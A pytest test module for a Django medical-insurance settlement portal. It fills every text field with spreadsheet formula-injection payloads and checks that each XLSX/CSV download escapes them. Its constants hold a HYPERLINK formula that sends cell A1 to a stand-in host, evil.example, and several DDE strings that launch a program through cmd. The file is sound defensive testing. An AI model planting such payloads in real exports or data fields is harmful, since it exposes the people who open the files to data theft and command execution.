"""Every spreadsheet the portal serves, downloaded from a world whose free text and ids look like formulas.

The world is the demo region with a settlement run, a catalog revision, a coefficient table, a DRG rule
set, decided disputes, a negotiation meeting, an intake batch with errors and the month's report pack.
Then every text column of every table of ours (names, codes, setl_id, statements, reasons, subject_ref,
comments, minutes…) is prefixed with ``=HYPERLINK(…)``, ``+1``, ``-1`` or ``@SUM(…)`` in the database.
Each download is fetched as the bureau and, where it may, as the hospital, opened with openpyxl, and no
cell may be a formula or a text a spreadsheet would evaluate: we write no formulas ourselves.

``DOWNLOADS`` must name every view that answers with ``download_response``: the test walks the URL
resolver (pages and API) and fails when a view serves a download this file does not fetch.
"""

from __future__ import annotations

import csv
import inspect
import io
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date
from io import BytesIO

import openpyxl
import pytest
from django.apps import apps
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models, transaction
from django.db.models import F, Value
from django.db.models.functions import Concat, Left
from django.test import override_settings
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from accounts.choices import Role
from accounts.services import user_create
from budgets.models import Budget
from catalogs.choices import CatalogStatus
from catalogs.coefficients import services as coefficient_services
from catalogs.drg import services as drg_rule_services
from catalogs.models import Region
from catalogs.versions import services as catalog_services
from catalogs.versions.models import CatalogVersion
from config.spreadsheets import CSV, FORMULA_TRIGGERS, XLSX
from demo.services import demo_generate
from disputes import services as dispute_services
from disputes.choices import (
    AgendaStatus,
    AgendaTopic,
    Decision,
    ItemKind,
    ParticipantRole,
    Reason,
    Specialty,
    Stance,
    Subject,
    Vote,
)
from disputes.models import DisputeItem, Expert, Meeting
from disputes.negotiation import services as meeting_services
from jobs.services import job_run
from reconciliation import services as reconciliation_services
from reports.models import ReportFile
from reports.services import report_pack_generate
from settlement.intake import services as intake_services
from settlement.intake.models import ImportBatch
from settlement.models import CaseRecord
from settlement.parameters.models import ParameterSet
from settlement.publication.services import statement_confirm
from settlement.runs.models import RunCase, RunInstitution
from settlement.runs.services import run_start
from tests.settlement.intake_rows import csv_bytes, valid_row
from tests.world import PASSWORD, run_publish_now

pytestmark = pytest.mark.django_db

YEAR, MONTH = 2024, 1
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
# Per row (pk mod 4) one of the four triggers; long text columns get the full HYPERLINK, short ones a stub.
LONG_PAYLOADS = (
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
SHORT_PAYLOADS = ("=1+", "+1", "-1", "@1")
OUR_APPS = (
    "accounts",
    "catalogs",
    "budgets",
    "settlement",
    "disputes",
    "reports",
    "jobs",
    "portal",
    "reconciliation",
)
# Columns that are keys of code, not text anyone types: a job's registered kind, a password hash.
NOT_TEXT = {("jobs", "job", "kind"), ("accounts", "user", "password")}


@dataclass
class Poisoned:
    admin: object
    member_user: object
    member_run: int
    officer: object
    hospital_user: object
    statement: RunInstitution
    case: CaseRecord
    catalog: CatalogVersion
    revision: CatalogVersion
    coefficients: object
    drg_rules: object
    parameter_set: ParameterSet
    budget: Budget
    special_case: DisputeItem
    objection: DisputeItem
    meeting: Meeting
    batch: ImportBatch
    reconciliation: int
    regional_report: ReportFile
    own_report: ReportFile


# --- the world -----------------------------------------------------------------------------------


def _decided(item: DisputeItem, *, officer, hospital_user) -> DisputeItem:
    dispute_services.item_submit(actor=hospital_user, item=item)
    dispute_services.item_accept(actor=officer, item=item)
    dispute_services.item_screen(actor=officer, item=item, passed=True, note=HYPERLINK)
    dispute_services.comment_add(actor=hospital_user, item=item, body=HYPERLINK)
    dispute_services.panel_draw(
        actor=officer, item=item, specialty=Specialty.SURGERY, size=3, seed=7
    )
    for seat in item.panel.select_related("expert__user"):
        dispute_services.expert_vote(
            actor=seat.expert.user, item=item, vote=Vote.APPROVE, opinion=HYPERLINK
        )
    return dispute_services.item_decide(
        actor=officer, item=item, decision=Decision.APPROVED_FFS, reason=HYPERLINK
    )


def _disputes(officer, hospital_user, case: CaseRecord) -> tuple[DisputeItem, DisputeItem]:
    for number in range(3):
        user = user_create(
            actor=None,
            username=f"surgeon{number}",
            password=PASSWORD,
            role=Role.EXPERT,
            display_name=HYPERLINK,
        )
        Expert.objects.create(user=user, specialty=Specialty.SURGERY)
    special = dispute_services.item_create(
        actor=hospital_user,
        kind=ItemKind.SPECIAL_CASE,
        setl_id=case.setl_id,
        reasons=[Reason.HIGH_COST],
        statement=HYPERLINK,
    )
    objection = dispute_services.item_create(
        actor=hospital_user,
        kind=ItemKind.OBJECTION,
        subject=Subject.SCORE,
        subject_ref=HYPERLINK,
        statement=HYPERLINK,
        period=case.period,
    )
    return (
        _decided(special, officer=officer, hospital_user=hospital_user),
        _decided(objection, officer=officer, hospital_user=hospital_user),
    )


def _meeting(officer, region: Region, institution) -> Meeting:
    meeting = meeting_services.meeting_create(
        actor=officer,
        region=region,
        year=YEAR,
        title=HYPERLINK,
        held_on=date(YEAR, 3, 1),
        minutes=HYPERLINK,
    )
    member = meeting_services.participant_add(
        actor=officer,
        meeting=meeting,
        name=HYPERLINK,
        role=ParticipantRole.REPRESENTATIVE,
        institution=institution,
    )
    agenda = meeting_services.agenda_item_add(
        actor=officer, meeting=meeting, topic=AgendaTopic.COEFFICIENTS, proposal=HYPERLINK
    )
    meeting_services.position_record(
        actor=officer,
        agenda_item=agenda,
        participant=member,
        stance=Stance.AGREE,
        statement=HYPERLINK,
    )
    meeting_services.agenda_item_conclude(
        actor=officer, agenda_item=agenda, status=AgendaStatus.AGREED, outcome=HYPERLINK
    )
    return meeting


def _batch(hospital_user) -> ImportBatch:
    """An upload with an error in every row, so its issue report lists the bad values."""
    code = hospital_user.institution.code
    rows = [
        valid_row(HYPERLINK[:30], institution=code, gend="=1+1"),
        valid_row("+1", institution=code, maindiag_code="@SUM(1)"),
    ]
    batch = intake_services.batch_upload(
        actor=hospital_user, upload=SimpleUploadedFile("cases.csv", csv_bytes(rows)), dispatch=False
    )
    job_run(job_id=batch.job_id)
    batch.refresh_from_db()
    assert batch.issues.exists()
    return batch


def _reconciliation(officer, region: Region) -> int:
    """A published reconciliation of the month against a national group file that groups every case otherwise."""
    cases = CaseRecord.objects.filter(
        period__region=region, period__year=YEAR, period__month=MONTH, insutype="310"
    )
    lines = ["setl_id,fixmedins_code,setl_month,grp_codg,grp_name,grp_type,weight,case_type"]
    lines += [
        f"{setl_id},{code},{YEAR}-{MONTH:02d},X99,国家病组,DIP,100,normal"
        for setl_id, code in cases.values_list("setl_id", "institution__code")
    ]
    reconciliation_services.national_upload(
        actor=officer,
        region=region,
        year=YEAR,
        month=MONTH,
        kind="groups",
        name="groups.csv",
        content="\n".join(lines).encode(),
    )
    recon = reconciliation_services.reconciliation_start(
        actor=officer, region=region, year=YEAR, month=MONTH, scheme="310", dispatch=False
    )
    job_run(job_id=recon.job_id)
    reconciliation_services.reconciliation_publish(actor=officer, reconciliation=recon)
    return recon.pk


def _poison(model: type[models.Model]) -> None:
    """Prefix every free-text and id column of ``model`` with a formula-like payload, row by row."""
    meta = model._meta
    integer_pk = isinstance(meta.pk, (models.AutoField, models.BigAutoField))
    for field in meta.concrete_fields:
        if (
            not isinstance(field, (models.CharField, models.TextField))
            or field.choices
            or (meta.app_label, meta.model_name, field.name) in NOT_TEXT
        ):
            continue
        long = field.max_length is None or field.max_length >= 200
        payloads = LONG_PAYLOADS if long else SHORT_PAYLOADS
        prefixed = [Concat(Value(p), F(field.attname), output_field=field) for p in payloads]
        if field.max_length:
            prefixed = [Left(value, field.max_length, output_field=field) for value in prefixed]
        value = prefixed[0]
        if integer_pk:
            cases = [models.When(_pk_mod=n, then=prefixed[n]) for n in range(1, 4)]
            value = models.Case(*cases, default=prefixed[0], output_field=field)
            model._base_manager.annotate(_pk_mod=F("pk") % 4).update(**{field.attname: value})
        else:
            model._base_manager.update(**{field.attname: value})


def poison_everything() -> None:
    for model in apps.get_models():
        if model._meta.app_label in OUR_APPS and model._meta.managed and not model._meta.proxy:
            _poison(model)


def world_build() -> Poisoned:
    demo_generate(actor="测试", years=2, cases_per_year=600, end_year=YEAR, months_settled=False)
    users = get_user_model().objects
    officer, hospital_user = users.get(username="officer"), users.get(username="hospital")
    admin = users.get(username="admin")
    region = Region.objects.get()
    run = run_start(
        actor=officer,
        region=region,
        year=YEAR,
        scheme="310",
        category="DIP",
        run_type="monthly",
        number=MONTH,
        dispatch=False,
    )
    job_run(job_id=run.job_id)
    run_publish_now(run, actor=officer)
    statement = RunInstitution.objects.get(run=run, institution=hospital_user.institution)
    statement_confirm(actor=hospital_user, statement=statement, note=HYPERLINK)
    case = (
        RunCase.objects.filter(run=run, institution=hospital_user.institution)
        .select_related("case")
        .first()
        .case
    )
    # The special case is filed for a case whose setl_id will start with "=" (pk mod 4 = 0), as setl_ids may.
    filed = (
        CaseRecord.objects.filter(institution=hospital_user.institution, period=case.period)
        .alias(mod=F("pk") % 4)
        .filter(mod=0)
        .first()
    )
    catalog = CatalogVersion.objects.filter(status=CatalogStatus.PUBLISHED).order_by("pk").first()
    revision = catalog_services.version_copy(actor=officer, version=catalog)
    coefficients = coefficient_services.coefficient_table_create(
        actor=officer, region=region, year=YEAR + 1
    )
    drg_rules = drg_rule_services.drg_rule_set_create(
        actor=officer, region=region, year=YEAR, name=HYPERLINK
    )
    drg_rule_services.drg_rule_set_load_csv(actor=officer, rule_set=drg_rules)
    special_case, objection = _disputes(officer, hospital_user, filed)
    meeting = _meeting(officer, region, hospital_user.institution)
    batch = _batch(hospital_user)
    reconciliation = _reconciliation(officer, region)
    poison_everything()
    report_pack_generate(actor=officer, region=region, year=YEAR, month=MONTH)
    reports = ReportFile.objects.filter(year=YEAR, month=MONTH)
    member = (
        RunCase.objects.filter(run=run)
        .exclude(institution=F("booked"))
        .select_related("institution")
        .first()
        .institution
    )
    member_user = user_create(
        actor=None,
        username="member",
        password="Member-test-2024!",
        role=Role.HOSPITAL,
        display_name="成员医院用户",
        institution=member,
    )
    return Poisoned(
        admin=admin,
        member_user=member_user,
        member_run=run.pk,
        officer=officer,
        hospital_user=hospital_user,
        statement=statement,
        case=case,
        catalog=catalog,
        revision=revision,
        coefficients=coefficients,
        drg_rules=drg_rules,
        parameter_set=ParameterSet.objects.filter(region=region).first(),
        budget=Budget.objects.filter(region=region).first(),
        special_case=special_case,
        objection=objection,
        meeting=meeting,
        batch=batch,
        reconciliation=reconciliation,
        regional_report=reports.get(institution__isnull=True),
        own_report=reports.get(institution=hospital_user.institution),
    )


@pytest.fixture(scope="module")
def poisoned(django_db_setup, django_db_blocker, tmp_path_factory) -> Iterator[Poisoned]:
    """Built once per module in a transaction rolled back at its end; each test runs in a savepoint inside it."""
    media = tmp_path_factory.mktemp("media")
    with (
        django_db_blocker.unblock(),
        override_settings(MEDIA_ROOT=media, DISPUTES_SPECIAL_CASE_QUOTA_RATE="0.5"),
    ):
        atomic = transaction.atomic()
        atomic.__enter__()
        try:
            yield world_build()
        finally:
            transaction.set_rollback(True)
            atomic.__exit__(None, None, None)


# --- the downloads -------------------------------------------------------------------------------

BUREAU, HOSPITAL, ADMIN, MEMBER = "bureau", "hospital", "admin", "member"


@dataclass(frozen=True)
class Download:
    """How to fetch one download view: its URL arguments and query from the world, who may fetch it, and
    whether the world's text reaches it (a template holds only our own headers)."""

    args: Callable[[Poisoned], list]
    who: tuple[str, ...] = (BUREAU,)
    query: dict | Callable[[Poisoned], dict] | None = None
    poisoned: bool = True


DOWNLOADS: dict[str, Download] = {
    "catalogs:version_export": Download(lambda w: [w.catalog.pk], (BUREAU, HOSPITAL)),
    "catalogs:version_diff_export": Download(lambda w: [w.revision.pk]),
    "catalogs:dictionary_export": Download(lambda w: []),
    "catalogs:coefficient_export": Download(lambda w: [w.coefficients.pk]),
    "catalogs:drg_rules_export": Download(lambda w: [w.drg_rules.pk]),
    "catalogs:register_export": Download(
        lambda w: [], query=lambda w: {"region": w.statement.run.region_id, "day": "2024-01-31"}
    ),
    "budgets:budget_export": Download(lambda w: [w.budget.pk]),
    "settlement:parameter_export": Download(lambda w: [w.parameter_set.pk]),
    "settlement:statement_export": Download(
        lambda w: [w.statement.run_id, w.statement.institution.code], (BUREAU, HOSPITAL)
    ),
    "settlement:case_points_export": Download(lambda w: [w.case.pk], (BUREAU, HOSPITAL)),
    "settlement:batch_report": Download(lambda w: [w.batch.pk], (BUREAU, HOSPITAL)),
    "settlement:template_download": Download(lambda w: [], (HOSPITAL,), poisoned=False),
    "settlement:template_download#csv": Download(
        lambda w: [], (HOSPITAL,), query={"format": "csv"}, poisoned=False
    ),
    "disputes:item_batch_template": Download(lambda w: [], (HOSPITAL,), poisoned=False),
    "disputes:item_letter": Download(lambda w: [w.special_case.pk], (BUREAU, HOSPITAL)),
    "disputes:item_letter#objection": Download(lambda w: [w.objection.pk], (BUREAU, HOSPITAL)),
    "disputes:meeting_minutes": Download(lambda w: [w.meeting.pk], (BUREAU, HOSPITAL)),
    "reconciliation:reconciliation_export": Download(
        lambda w: [w.reconciliation], (BUREAU, HOSPITAL)
    ),
    "reports:report_download": Download(lambda w: [w.regional_report.pk]),
    "reports:report_download#own": Download(lambda w: [w.own_report.pk], (HOSPITAL,)),
    "portal:user_import_template": Download(lambda w: [], (ADMIN,), poisoned=False),
    "settlement:member_statement_export": Download(lambda w: [w.member_run], (MEMBER,)),
    "settlement:run_responses_export": Download(lambda w: [w.member_run]),
}
# Downloads that are not spreadsheets we write: a hospital's own evidence file, served back as uploaded.
NOT_OURS = {"disputes:attachment_download"}


def _view_source(callback) -> str:
    target = (
        getattr(callback, "view_class", None)
        or getattr(callback, "cls", None)
        or inspect.unwrap(callback)
    )
    try:
        return inspect.getsource(target)
    except (OSError, TypeError):
        return ""


def _patterns(resolvers, prefix: str = "") -> Iterator[tuple[str, object]]:
    for entry in resolvers:
        if isinstance(entry, URLResolver):
            namespace = f"{prefix}{entry.namespace}:" if entry.namespace else prefix
            yield from _patterns(entry.url_patterns, namespace)
        elif isinstance(entry, URLPattern):
            yield f"{prefix}{entry.name}", entry.callback


def serving_views() -> set[str]:
    """The URL names (pages and API) of every view of ours that answers with ``download_response``."""
    return {
        name
        for name, callback in _patterns(get_resolver().url_patterns)
        if callback.__module__.split(".")[0] in OUR_APPS
        and "download_response(" in _view_source(callback)
    }


def live_cells(content: bytes) -> list[str]:
    """Every cell a spreadsheet would evaluate: a formula, or text starting with = + - @ (tab, CR)."""
    book = openpyxl.load_workbook(BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate} {cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS))
    ]


def neutralised_cells(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(BytesIO(content))
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
        and cell.value.startswith("'")
        and cell.value[1:].startswith(FORMULA_TRIGGERS)
    ]


def test_every_download_view_is_fetched_here():
    """A new download (page or API) must be added to DOWNLOADS, or this fails."""
    listed = {name.partition("#")[0] for name in DOWNLOADS} | NOT_OURS
    assert serving_views() == listed


def _fetch(client, poisoned: Poisoned, name: str, download: Download) -> tuple[str, bytes]:
    response = client.get(
        reverse(name.partition("#")[0], args=download.args(poisoned)),
        download.query(poisoned) if callable(download.query) else download.query or {},
    )
    assert response.status_code == 200, (name, response.status_code)
    assert (
        response["Content-Type"] in (XLSX, CSV) and "attachment;" in response["Content-Disposition"]
    ), name
    return response["Content-Type"], b"".join(
        response.streaming_content
    ) if response.streaming else response.content


def csv_live_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_TRIGGERS)]


@pytest.mark.parametrize("name", sorted(DOWNLOADS))
def test_no_cell_of_a_download_is_a_live_formula(poisoned, client, name):
    download = DOWNLOADS[name]
    for who in download.who:
        client.force_login(
            {
                BUREAU: poisoned.officer,
                HOSPITAL: poisoned.hospital_user,
                ADMIN: poisoned.admin,
                MEMBER: poisoned.member_user,
            }[who]
        )
        content_type, content = _fetch(client, poisoned, name, download)
        if content_type == CSV:
            assert csv_live_cells(content) == [], (name, who)
            continue
        assert live_cells(content) == [], (name, who)
        if download.poisoned:
            assert neutralised_cells(content), (
                f"{name} ({who}) shows none of the world's formula-like text"
            )


def _letter(client, item: DisputeItem) -> dict[str, object]:
    sheet = openpyxl.load_workbook(
        BytesIO(client.get(reverse("disputes:item_letter", args=[item.pk])).content)
    )["决定书"]
    return {
        row[0]: row[1] for row in sheet.iter_rows(min_row=3, max_col=2, values_only=True) if row[0]
    }


def test_the_letter_carries_the_formula_like_setl_id_statement_reference_and_reason_as_text(
    poisoned, client
):
    client.force_login(poisoned.hospital_user)
    special = DisputeItem.objects.select_related("case").get(pk=poisoned.special_case.pk)
    letter = _letter(client, special)
    assert letter["结算清单号"] == "'" + special.case.setl_id and special.case.setl_id.startswith(
        "="
    )
    assert (
        letter["申请陈述"] == "'" + special.statement
        and letter["决定理由"] == "'" + special.decision_reason
    )
    objection = DisputeItem.objects.get(pk=poisoned.objection.pk)
    assert objection.subject_ref in _letter(client, objection)["争议事项"]
